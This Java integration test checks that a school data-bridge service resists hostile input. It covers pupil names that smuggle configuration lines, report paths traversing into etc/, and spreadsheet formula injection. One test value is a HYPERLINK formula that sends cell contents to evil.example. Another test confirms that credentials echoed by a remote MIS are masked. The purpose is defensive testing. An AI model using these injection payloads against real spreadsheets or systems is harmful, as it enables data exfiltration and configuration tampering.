package org.misbridge.itests;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertTrue;

import java.io.Reader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import javax.inject.Inject;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.awaitility.Awaitility;
import org.junit.Test;
import org.junit.runner.RunWith;
import org.misbridge.api.DeletionQueue;
import org.misbridge.api.directory.Member;
import org.misbridge.api.directory.SyncOutcome;
import org.misbridge.api.directory.SyncRun;
import org.ops4j.pax.exam.Configuration;
import org.ops4j.pax.exam.Option;
import org.ops4j.pax.exam.junit.PaxExam;
import org.ops4j.pax.exam.spi.reactors.ExamReactorStrategy;
import org.ops4j.pax.exam.spi.reactors.PerClass;

/**
 * Issue 18's attacks on files and remote answers, as an operator and a hostile MIS would make them
 * on the assembly: a pupil name carrying lines of configuration and a report aimed at etc/; names
 * that a spreadsheet would run as formulas; a MIS that echoes our token and client secret in its
 * error. Files land only in the export folder; cells read as text; credentials show up nowhere.
 */
@RunWith(PaxExam.class)
@ExamReactorStrategy(PerClass.class)
public class HostileInputIT extends MisBridgeTestSupport {

    @Inject
    private DeletionQueue deletions;

    private static final String SCHOOL = "hostile";
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    @Configuration
    public Option[] config() {
        Option[] school = GeneratedSchoolOptions.generate("org-hostile", 40, 23L);
        Path folder = Path.of(System.getProperty("misbridge.itest.work", "target/itest-work"), "org-hostile").toAbsolutePath();
        return with(with(baseOptions(), school), EchoingMisOptions.serve(folder));
    }

    /** What an operator sees of a command, whether it prints its refusal or throws it. */
    private String asOperator(String command) {
        try {
            return executeCommandAs("operator", command, "operator");
        } catch (AssertionError e) {
            return String.valueOf(e.getMessage());
        }
    }

    /** The same for the admin. */
    private String asAdmin(String command) {
        try {
            return executeCommand(command);
        } catch (AssertionError e) {
            return String.valueOf(e.getMessage());
        }
    }

    private static Path exports() {
        return Path.of(System.getProperty("karaf.data"), "misbridge", "exports");
    }

    /** OWASP's rule, written here on its own: a cell starting with = + - @ TAB CR LF that is not a plain number gets an apostrophe. */
    private static String asSpreadsheetText(String value) {
        return value.matches("(?s)'*[=+\\-@\\t\\r\\n].*") && !value.matches("[+-]?[0-9]+(\\.[0-9]+)?") ? "'" + value : value;
    }

    private static List<CSVRecord> csv(Path file) throws Exception {
        try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
            return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).build().parse(in).getRecords();
        }
    }

    /** The school, with three pupils the MIS gives hostile names, synced once, with a meal drop and a leaver lifecycle. */
    private synchronized void hostileSchool() throws Exception {
        if (directory.lastRun(SCHOOL).isPresent()) {
            return;
        }
        Path folder = Path.of(System.getProperty("it.school.path"));
        String org = System.getProperty("it.school.org");
        String configInAName = "Ann\nschool.id=stolen\ncsv.path=" + folder + "\norg.sourcedId=" + org
                + "\nreader.target=(school.id=stolen)\nschedule=";
        String[][] names = {{configInAName, "Smith"}, {HYPERLINK, "-Smith"}, {"@SUM(1+1)", "+Jones"}};
        int[] n = {0};
        CsvRows.rewrite(folder.resolve("users.csv"), c -> {
            if ("student".equals(c[5]) && n[0] < names.length) {
                c[8] = names[n[0]][0];
                c[9] = names[n[0]][1];
                n[0]++;
            }
            return c;
        });
        dropConfig("org.misbridge.mis.oneroster-" + SCHOOL + ".cfg", "school.id=" + SCHOOL + "\ncsv.path=" + folder
                + "\norg.sourcedId=" + org + "\n");
        dropConfig("org.misbridge.sync-" + SCHOOL + ".cfg", "school.id=" + SCHOOL + "\nreader.target=(school.id=" + SCHOOL
                + ")\nschedule=\n");
        dropConfig("org.misbridge.leavers-" + SCHOOL + ".cfg", "school.id=" + SCHOOL + "\n");
        dropConfig("org.misbridge.meals-" + SCHOOL + ".cfg", "school.id=" + SCHOOL + "\nmeals.dropFolder="
                + Path.of(System.getProperty("karaf.data"), "hostile-meals") + "\n");
        awaitOutput("school:leavers " + SCHOOL, out -> out.contains("leaver") || out.contains("No leavers"));
        awaitOutput("school:meals " + SCHOOL, out -> out.contains("pending"));
        assertContains(executeCommand("school:sync " + SCHOOL), "Synced " + SCHOOL);
    }

    @Test
    public void aReportGoesOnlyIntoTheExportFolderSoAHostileNameCannotBecomeASchool() throws Exception {
        hostileSchool();
        // the attack: the report of a pupil whose name carries lines of configuration, written into etc/
        Path reader = etc().resolve("org.misbridge.mis.oneroster-stolen.cfg");
        Path sync = etc().resolve("org.misbridge.sync-stolen.cfg");
        for (String target : new String[] {reader.toString(), "etc/" + sync.getFileName(), "../etc/" + sync.getFileName()}) {
            assertContains(asOperator("school:report " + SCHOOL + " " + target), "is a path: give a file name only");
        }
        assertFalse("a report became " + reader, Files.exists(reader));
        assertFalse("a report became " + sync, Files.exists(sync));
        assertFalse(executeCommand("school:list").contains("stolen"));

        // by name, into the export folder; the same name twice is refused
        List<Member> members = directory.load(SCHOOL).members();
        assertContains(asOperator("school:report " + SCHOOL + " year-end"),
                "Wrote " + members.size() + " member(s) of " + SCHOOL + " to " + exports().toRealPath().resolve("year-end.csv"));
        assertContains(asOperator("school:report " + SCHOOL + " year-end.csv"), "exists already");

        // each member one record, each name whole in its cell, formula-like ones read as text
        Map<String, CSVRecord> rows = csv(exports().resolve("year-end.csv")).stream()
                .collect(Collectors.toMap(r -> r.get("member_id"), r -> r));
        assertEquals(members.size(), rows.size());
        for (Member m : members) {
            assertEquals(m.id(), asSpreadsheetText(m.givenName()), rows.get(m.id()).get("given_name"));
            assertEquals(m.id(), asSpreadsheetText(m.familyName()), rows.get(m.id()).get("family_name"));
        }
        Member formula = members.stream().filter(m -> m.givenName().equals(HYPERLINK)).findFirst().orElseThrow();
        assertEquals("'" + HYPERLINK, rows.get(formula.id()).get("given_name"));
        assertEquals("'-Smith", rows.get(formula.id()).get("family_name"));

        // the leavers' export likewise: a path is refused before anything is queued
        assertContains(asAdmin("school:delete-leavers --export " + etc().resolve("x.json") + " --all " + SCHOOL + " --yes"),
                "is a path");
        assertTrue(deletions.deletionQueue(SCHOOL).isEmpty());
        assertFalse(Files.exists(etc().resolve("x.json")));
    }

    @Test
    public void theMealDropReadsAsTextInASpreadsheet() throws Exception {
        hostileSchool();
        Path drop = Path.of(System.getProperty("karaf.data"), "hostile-meals");
        awaitOutput("school:meals " + SCHOOL + " --json", out -> out.contains("\"pending\" : 0") && !out.contains("\"lastPushAt\" : null"));
        List<CSVRecord> rows = new ArrayList<>();
        try (Stream<Path> files = Files.list(drop)) {
            for (Path f : files.sorted().toList()) {
                assertTrue(f.toString(), f.getFileName().toString().matches(SCHOOL + "-meals-\\d+-\\d+\\.csv"));
                rows.addAll(csv(f));
            }
        }
        CSVRecord formula = rows.stream().filter(r -> r.get("givenName").contains("HYPERLINK")).findFirst().orElseThrow();
        assertEquals("'" + HYPERLINK, formula.get("givenName"));
        assertEquals("'-Smith", formula.get("familyName"));
        CSVRecord at = rows.stream().filter(r -> r.get("givenName").contains("SUM(1+1)")).findFirst().orElseThrow();
        assertEquals("'@SUM(1+1)", at.get("givenName"));
        assertEquals("'+Jones", at.get("familyName"));
    }

    @Test
    public void whatAMisEchoesOfOurCredentialsShowsUpNowhere() throws Exception {
        String org = System.getProperty("it.school.org");
        // a fixed bearer token, echoed as JSON by the API; a client secret, echoed as text by the token endpoint
        dropConfig("org.misbridge.mis.oneroster-echobearer.cfg", String.join("\n", "school.id=echobearer", "mode=rest",
                "rest.baseUrl=" + System.getProperty("it.echo.json") + "/ims/oneroster/v1p1",
                "rest.tokenFile=" + System.getProperty("it.echo.tokenFile"), "rest.maxAttempts=1", "org.sourcedId=" + org, ""));
        dropConfig("org.misbridge.mis.oneroster-echobasic.cfg", String.join("\n", "school.id=echobasic", "mode=rest",
                "rest.baseUrl=" + System.getProperty("it.echo.text") + "/ims/oneroster/v1p1",
                "rest.tokenUrl=" + System.getProperty("it.echo.text") + "/token", "rest.clientId=" + EchoingMisOptions.CLIENT_ID,
                "rest.clientSecretFile=" + System.getProperty("it.echo.secretFile"), "rest.maxAttempts=1", "org.sourcedId=" + org, ""));
        List<String> seen = new ArrayList<>();
        for (String school : new String[] {"echobearer", "echobasic"}) {
            dropConfig("org.misbridge.sync-" + school + ".cfg", "school.id=" + school + "\nreader.target=(school.id=" + school
                    + ")\nschedule=\n");
            awaitSchoolsRunning(school);
            // a real sync, recorded as a failed run with the MIS's answer quoted
            String synced = asAdmin("school:sync " + school);
            assertContains(synced, "HTTP 400", "****");
            SyncRun run = directory.lastRun(school).orElseThrow();
            assertEquals(SyncOutcome.FAILED, run.outcome());
            assertContains(run.message(), "HTTP 400", "****");
            seen.add("run message: " + run.message());
            seen.add("sync output: " + synced);
            for (String read : new String[] {"school:status " + school, "school:status " + school + " --json"}) {
                seen.add(read + ": " + executeCommand(read));
            }
            Awaitility.await().atMost(Duration.ofSeconds(30)).until(() -> Files.readString(karafLog(), StandardCharsets.UTF_8)
                    .contains("Sync of school " + school + " failed"));
        }
        assertContains(run("echobearer").message(), "\"authorization\":\"****\"");
        assertContains(run("echobasic").message(), "Authorization: ****");
        seen.add("school:health: " + executeCommand("school:health"));
        seen.add("school:health --json: " + executeCommand("school:health --json"));
        String health = httpGet("/health");
        assertContains(health, "echobearer", "echobasic", "HTTP 400");
        seen.add("/misbridge/health: " + health);
        seen.add("/misbridge/metrics: " + httpGet("/metrics"));
        seen.add("karaf.log: " + Files.readString(karafLog(), StandardCharsets.UTF_8));

        String basic = Base64.getEncoder().encodeToString((EchoingMisOptions.CLIENT_ID + ":" + EchoingMisOptions.SECRET)
                .getBytes(StandardCharsets.UTF_8));
        for (String output : seen) {
            for (String hidden : new String[] {EchoingMisOptions.TOKEN, EchoingMisOptions.SECRET, basic}) {
                assertFalse("'" + hidden + "' shows in:\n" + output, output.contains(hidden));
            }
        }
    }

    private SyncRun run(String school) {
        return directory.lastRun(school).orElseThrow();
    }

    private static Path karafLog() {
        return Path.of(System.getProperty("karaf.data"), "log", "karaf.log");
    }

    private static String httpGet(String path) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create(misbridgeUrl() + path)).timeout(Duration.ofSeconds(30))
                .header("Authorization", "Basic " + Base64.getEncoder().encodeToString("viewer:viewer".getBytes(StandardCharsets.UTF_8)))
                .build();
        return HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString()).body();
    }
}
